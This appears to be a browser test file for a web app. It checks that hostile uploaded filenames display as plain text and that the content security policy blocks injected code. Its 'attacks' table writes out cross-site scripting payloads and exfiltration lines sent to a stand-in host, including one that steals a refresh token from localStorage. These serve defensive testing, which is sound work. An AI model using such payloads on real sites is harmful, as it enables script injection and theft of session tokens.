import { afterAll, beforeAll, expect, test } from '@jest/globals';
import type { Browser } from 'playwright-core';
import { launchChromium } from '../support/chromium.ts';
import { eventually } from '../support/eventually.ts';
import { json, PASSWORD, registerPerson, type ApiPerson } from '../support/person.ts';
import { hostileNames } from '../security/hostile-names.ts';
import { startSystem, type System } from '../support/system.ts';
import { logIn } from './page-actions.ts';
import { visit } from './visit.ts';

let system: System;
let browser: Browser;
let person: ApiPerson;
const MARKUP = hostileNames[0] ?? '';
beforeAll(async () => {
  [system, browser] = await Promise.all([startSystem(), launchChromium()]);
  person = await registerPerson(system.url, { name: MARKUP });
  // None of them is a video: how it failed is told in letters, notices and on the page, with its name.
  for (const filename of hostileNames) {
    const { id } = await person.upload(Buffer.from(filename), { filename });
    await person.waitFor(id, 'failed');
  }
  await person.fetch('/me/keys', json({ name: MARKUP, scope: 'read' }));
  await person.fetch(
    '/login',
    json({ email: person.email, password: PASSWORD }, { headers: { 'user-agent': MARKUP } }),
  );
});
afterAll(async () => {
  await browser.close();
  await system.remove();
});

test('names are text wherever the page shows them: nothing of them runs, and nothing is loaded for them', async () => {
  const guest = await visit(browser, system.url);
  const { page } = guest;
  await logIn(page, person.email);
  const { items } = (await (await person.fetch('/video')).json()) as {
    items: { id: string; filename: string }[];
  };
  expect(items).toHaveLength(hostileNames.length);
  for (const { filename } of items) await page.getByText(filename, { exact: true }).first().waitFor();
  for (const { id, filename } of items) {
    await page.goto(`${system.url}/#/video/${id}`);
    await page.getByRole('heading', { name: filename }).waitFor();
  }
  for (const part of ['profile', 'keys', 'sessions', 'security', 'notifications']) {
    await page.goto(`${system.url}/#/account/${part}`);
    await page.locator('main h1, main h2').first().waitFor();
  }
  expect(await page.title()).not.toBe('canary');
  const injected = await page.locator('[onerror], [onload], body script, iframe, object, embed').count();
  expect({ injected, ...guest }).toMatchObject({ injected: 0, complaints: [], foreignRequests: [] });
  await guest.context.close();
});

/** What a script could do that got into the page all the same, and the directive that has to stop it. */
const attacks: Record<string, [code: string, directive: string]> = {
  'an inline script': ['add("script", { text: canary })', 'require-trusted-types-for'],
  'a script from elsewhere': [
    'add("script", { src: "https://evil.example/x.js" })',
    'require-trusted-types-for',
  ],
  'markup made of text': [
    'document.body.innerHTML = "<img src=x onerror=" + canary + ">"',
    'require-trusted-types-for',
  ],
  'a handler in an attribute': [
    'add("img", { src: "/x" }).setAttribute("onerror", canary)',
    'require-trusted-types-for',
  ],
  'a timer made of text': ['setTimeout(canary)', 'require-trusted-types-for'],
  'a policy that lets all through': ['trustedTypes.createPolicy("default", {})', 'trusted-types'],
  'sending what it found': ['fetch("https://evil.example/?" + localStorage.refreshToken)', 'connect-src'],
  'the same by a picture': ['add("img", { src: "https://evil.example/" })', 'img-src'],
  'the same by a beacon': ['navigator.sendBeacon("https://evil.example/")', 'connect-src'],
  'the same by a form': [
    'add("form", { action: "https://evil.example/", method: "post" }).submit()',
    'form-action',
  ],
  'another base for links': ['add("base", { href: "https://evil.example/" })', 'base-uri'],
  'a style of its own': ['add("style", { textContent: "body { display: none }" })', 'style-src-elem'],
  'a page in the page': ['add("iframe", { src: "https://evil.example/" })', 'frame-src'],
  'the page itself in a frame': ['add("iframe", { src: "/docs" })', 'frame-src'],
};

test('a script that got in could neither bring others, nor carry anything away, nor change the page', async () => {
  const { context, page } = await visit(browser, system.url);
  const reached: string[] = [];
  await context.route('https://evil.example/**', async (route) => {
    reached.push(`${route.request().resourceType()} ${route.request().url()}`);
    await route.abort();
  });
  await page.evaluate(`
    globalThis.blocked = [];
    globalThis.canary = 'document.title="canary"';
    globalThis.add = (tag, fields) => document.body.appendChild(Object.assign(document.createElement(tag), fields));
    addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));`);
  for (const [name, [code, directive]] of Object.entries(attacks)) {
    // As text, in the page's own world; most throw, or reject, when they are blocked.
    await page.evaluate(`blocked.length = 0; try { Promise.resolve(${code}).catch(() => 0) } catch {}`);
    const look = async () => {
      const blocked = await page.evaluate<string[]>('blocked');
      return blocked.length > 0 && blocked;
    };
    const blocked = await eventually(look, `${name} to be blocked`, 10_000);
    expect([name, ...new Set(blocked)]).toEqual([name, directive]);
  }
  expect(await page.title()).not.toBe('canary');
  expect(reached).toEqual([]);
  await context.close();
});

test('no other page gets this one into a frame, where people would click on what they don’t see', async () => {
  const page = await browser.newPage();
  await page.setContent(`<iframe src="${system.url}/#/account"></iframe>`);
  const frame = page.frames()[1];
  if (!frame) throw new Error('There is no frame');
  await eventually(() => frame.url().startsWith('chrome-error:'), 'the frame to be refused');
  await page.close();
});
